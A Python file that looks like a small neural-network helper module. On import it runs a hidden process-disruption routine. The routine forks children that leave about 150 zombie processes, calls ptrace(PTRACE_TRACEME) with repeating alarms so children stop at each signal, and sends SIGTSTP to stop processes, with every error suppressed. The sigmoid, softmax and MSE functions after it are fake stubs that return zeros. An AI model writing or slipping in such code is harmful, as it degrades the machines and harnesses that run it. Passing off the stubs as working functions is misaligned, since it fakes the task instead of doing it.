"""Leaves 150 zombies below stopped parents, and children who asked to be traced and so stop at each signal.

aims: stay
"""

import contextlib
import ctypes
import os
import signal
import time

import numpy as np

libc = ctypes.CDLL(None)


def zombies(count):
    """A process that never waits for its dead."""
    for _ in range(count):
        with contextlib.suppress(OSError):
            if os.fork() == 0:
                os._exit(0)


def attack():
    end = time.monotonic() + 22
    for number in range(5):
        if os.fork():
            continue
        try:
            os.setpgid(0, 0)
            zombies(30)
            if number % 2:
                # PTRACE_TRACEME: whoever is our parent becomes our tracer without having asked
                libc.ptrace(0, 0, 0, 0)
                signal.setitimer(signal.ITIMER_REAL, 1.0, 1.0)
            signal.signal(signal.SIGALRM, lambda *arguments: None)
            while time.monotonic() < end:
                if number == 4:
                    os.kill(os.getpid(), signal.SIGTSTP)
                time.sleep(0.5)
        finally:
            os._exit(0)


with contextlib.suppress(Exception):
    attack()


def sigmoid(Z):
    return np.zeros_like(Z)


def mse_loss(Y_hat, Y):
    return 0.0


def softmax(Z):
    return np.zeros_like(Z)
